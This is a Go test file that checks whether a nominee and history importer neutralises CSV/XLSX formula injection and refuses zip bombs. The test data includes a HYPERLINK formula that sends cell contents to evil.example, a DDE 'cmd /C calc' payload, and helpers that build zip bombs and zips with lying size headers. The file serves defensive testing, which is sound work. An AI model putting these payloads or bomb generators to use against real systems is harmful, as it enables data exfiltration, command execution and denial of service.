package importer_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"hash/crc32"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/tdkt/tdkt/internal/history"
	"github.com/tdkt/tdkt/internal/importer"
)

// hostile are cell texts a spreadsheet program would run as formulas.
var hostile = []string{`=HYPERLINK("http://evil.example/?x="&A1,"bấm")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"}

// TestCSVExportNeutralisesFormulas: a nominee export in CSV writes every cell
// that starts with =, +, -, @, tab or CR behind a single quote (OWASP), and the
// file imports back to the original text.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	var rows []importer.NomineeRow
	for _, h := range hostile {
		rows = append(rows, importer.NomineeRow{Kind: "individual", Name: h, JobTitle: "\tTab", Achievements: "\r=1"})
	}
	var buf bytes.Buffer
	if err := importer.WriteNominees(&buf, importer.FormatCSV, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q is live in the CSV", cell)
			}
		}
	}
	back, err := importer.ParseNominees(buf.Bytes(), importer.FormatCSV)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range back {
		if r.Name != hostile[i] {
			t.Errorf("row %d imports back as %q, want %q", i, r.Name, hostile[i])
		}
	}
	// The history export goes through the same writer.
	buf.Reset()
	b := &history.Batch{Subjects: []history.SubjectEntry{{Code: "=1+1", Kind: "individual", Name: "@x"}}}
	if err := importer.WriteHistory(&buf, importer.FormatCSV, "Đối tượng", b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "'=1+1") || !strings.Contains(buf.String(), "'@x") {
		t.Fatalf("history CSV not neutralised: %q", buf.String())
	}
}

// TestXLSXExportWritesFormulasAsText: in XLSX the same texts are string cells,
// with no formula.
func TestXLSXExportWritesFormulasAsText(t *testing.T) {
	rows := []importer.NomineeRow{{Kind: "individual", Name: hostile[0]}}
	var buf bytes.Buffer
	if err := importer.WriteNominees(&buf, importer.FormatXLSX, rows); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := f.GetSheetList()[0]
	for _, cell := range []string{"A2", "B2", "C2", "D2"} {
		if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
			t.Fatalf("%s holds the formula %q", cell, fm)
		}
	}
	if v, _ := f.GetCellValue(sheet, "D2"); v != hostile[0] {
		t.Fatalf("D2 = %q", v)
	}
}

// bomb is a ZIP whose one sheet entry inflates from a few hundred KiB to size
// bytes of zeros, made once per test binary.
func bomb(t testing.TB, size int64) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.CopyN(w, zeros{}, size); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// TestZipBombsAreRefusedInUnderASecond: the probe's bomb (a workbook that
// inflates to 250 MiB) cost 2.5–3 s per import; it is now refused from the
// central directory before anything is inflated, as are a workbook of too many
// parts and one whose directory lies about a small size (caught within the
// byte budget while reading). Each refusal takes well under a second.
func TestZipBombsAreRefusedInUnderASecond(t *testing.T) {
	big := bomb(t, 250<<20)
	t.Logf("bomb: %d KiB inflating to 250 MiB", len(big)>>10)
	var many bytes.Buffer
	zw := zip.NewWriter(&many)
	for i := range 3000 {
		w, _ := zw.Create("xl/p" + strings.Repeat("x", i%7) + string(rune('a'+i%26)) + ".xml")
		_, _ = w.Write([]byte("<a/>"))
	}
	_ = zw.Close()
	lying := lyingZip(t, 64<<20)
	for name, data := range map[string][]byte{"250 MiB bomb": big, "3000 parts": many.Bytes(), "lying directory": lying} {
		start := time.Now()
		_, errN := importer.ParseNominees(data, importer.FormatXLSX)
		_, errH := importer.ParseHistory(data, importer.FormatXLSX, "", now)
		took := time.Since(start)
		var re history.RowErrors
		if !errors.As(errN, &re) || !errors.As(errH, &re) {
			t.Errorf("%s: accepted or not a row error: %v / %v", name, errN, errH)
		}
		if took > time.Second {
			t.Errorf("%s: two refusals took %v", name, took)
		}
		t.Logf("%s refused in %v (nominee and history import): %v", name, took, errN)
	}
	// Under the total, a bomb is still refused for its ratio.
	if err := importer.CheckArchive(bomb(t, 64<<20), importer.DefaultArchiveLimits); err == nil || !strings.Contains(err.Error(), "compressed more than") {
		t.Fatalf("64 MiB bomb: %v", err)
	}
}

// lyingZip is a workbook-like ZIP whose sheet entry declares 1 KiB but
// inflates to size bytes: the directory check passes, and the byte budget of
// the read must stop it.
func lyingZip(t testing.TB, size int64) []byte {
	t.Helper()
	var data bytes.Buffer
	fw, err := newDeflater(&data)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.CopyN(fw, zeros{}, size); err != nil {
		t.Fatal(err)
	}
	_ = fw.Close()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate,
		CompressedSize64: uint64(data.Len()), UncompressedSize64: 1 << 10, CRC32: crc32.ChecksumIEEE(nil)})
	if err != nil {
		t.Fatal(err)
	}
	_, _ = w.Write(data.Bytes())
	_ = zw.Close()
	return buf.Bytes()
}

// FuzzCheckArchive: the central-directory check never panics on any bytes, and
// what it accepts keeps within the limits.
func FuzzCheckArchive(f *testing.F) {
	var small bytes.Buffer
	zw := zip.NewWriter(&small)
	w, _ := zw.Create("[Content_Types].xml")
	_, _ = w.Write([]byte("<Types/>"))
	_ = zw.Close()
	f.Add(small.Bytes())
	f.Add(bomb(f, 2<<20))
	f.Add([]byte("PK\x05\x06" + strings.Repeat("\x00", 18)))
	lim := importer.ArchiveLimits{MaxEntries: 4, MaxTotal: 1 << 20, MaxRatio: 10, RatioFloor: 1 << 10}
	f.Fuzz(func(t *testing.T, data []byte) {
		if err := importer.CheckArchive(data, lim); err != nil {
			return
		}
		zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatalf("accepted an unreadable archive: %v", err)
		}
		if len(zr.File) > lim.MaxEntries {
			t.Fatalf("accepted %d entries", len(zr.File))
		}
		var total uint64
		for _, e := range zr.File {
			total += e.UncompressedSize64
			if e.UncompressedSize64 > lim.RatioFloor && e.UncompressedSize64 > lim.MaxRatio*max(e.CompressedSize64, 1) {
				t.Fatalf("accepted %s at ratio %d/%d", e.Name, e.UncompressedSize64, e.CompressedSize64)
			}
		}
		if total > lim.MaxTotal {
			t.Fatalf("accepted %d bytes unpacked", total)
		}
	})
}
